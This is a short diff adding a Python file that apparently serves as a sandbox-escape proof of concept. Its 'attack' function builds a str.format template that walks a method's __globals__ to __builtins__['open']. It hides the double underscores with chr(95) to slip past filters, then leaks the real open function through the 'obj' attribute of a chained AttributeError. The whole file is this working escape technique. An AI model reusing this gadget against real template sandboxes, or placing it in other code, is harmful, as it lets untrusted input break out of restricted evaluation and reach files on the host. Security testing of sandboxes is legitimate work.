@@ -1,0 +1,26 @@
+# gained: function open
+from typing import Any
+
+
+class Own:
+    obj: Any = None
+
+    def go(self) -> None:
+        return None
+
+
+def read(template: str, value: Any) -> Any:
+    try:
+        try:
+            template.format(value)
+        except AttributeError as error:
+            raise ValueError("x") from error
+    except ValueError as outer:
+        return outer.__cause__.obj
+    return None
+
+
+def attack(path: str) -> Any:
+    under = chr(95) * 2
+    table = ["{0.go.%(u)sglobals%(u)s[%(u)sbuiltins%(u)s][open].nothing}" % {"u": under}]
+    return read(table[0], Own())
